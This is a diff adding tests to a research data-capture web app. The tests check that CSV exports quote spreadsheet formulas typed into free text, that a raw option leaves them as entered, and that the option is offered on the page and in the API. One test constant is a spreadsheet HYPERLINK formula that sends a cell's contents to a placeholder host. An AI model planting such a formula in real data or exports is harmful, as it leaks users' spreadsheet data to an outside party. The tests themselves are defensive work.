@@ -134,3 +134,59 @@ def test_the_exports_page_queues_an_export(
     assert Export.objects.get().state == Export.State.DONE
     page = client.get(reverse("capture:exports", args=[study.pk])).content.decode()
     assert "Download" in page
+
+
+FORMULA = '=HYPERLINK("http://example.invalid/?x="&A2,"Click")'
+
+
+@pytest.fixture
+def formula_entry(personas, study):
+    from capture.models import Record
+
+    record = Record.objects.get(study=study, label="AAA-1")
+    services.entry_save(
+        actor=personas.committee,
+        record=record,
+        instrument="baseline",
+        values={"comment": FORMULA},
+        reason="test",
+    )
+
+
+def test_a_csv_export_quotes_free_text_a_spreadsheet_would_run(personas, study, formula_entry):
+    rows = _csv_rows(_made(personas.committee, study, format="csv"))
+    assert rows[0]["comment"] == "'" + FORMULA
+
+
+def test_the_raw_option_keeps_text_as_entered_for_statistical_software(
+    personas, study, formula_entry
+):
+    export = _made(personas.committee, study, format="csv", raw=True)
+    assert _csv_rows(export)[0]["comment"] == FORMULA
+    bundle = _made(personas.committee, study, format="r")  # read by its R script: always raw
+    with bundle.file.open("rb") as handle, zipfile.ZipFile(handle) as archive:
+        rows = list(csv.DictReader(io.StringIO(archive.read("records.csv").decode())))
+    assert rows[0]["comment"] == FORMULA
+
+
+def test_the_exports_page_offers_the_raw_option(
+    client, personas, study, django_capture_on_commit_callbacks
+):
+    client.force_login(personas.committee)
+    url = reverse("capture:exports", args=[study.pk])
+    assert 'name="raw"' in client.get(url).content.decode()
+    with django_capture_on_commit_callbacks(execute=True):
+        client.post(url, {"format": "csv", "checkboxes": "wide", "repeats": "long", "raw": "on"})
+    assert Export.objects.get().options["raw"] is True
+
+
+def test_the_api_takes_the_raw_option(client, personas, study, django_capture_on_commit_callbacks):
+    client.force_login(personas.committee)
+    with django_capture_on_commit_callbacks(execute=True):
+        response = client.post(
+            f"/api/v1/studies/{study.pk}/exports",
+            {"format": "csv", "raw": True},
+            content_type="application/json",
+        )
+    assert response.status_code == 202
+    assert response.json()["options"]["raw"] is True
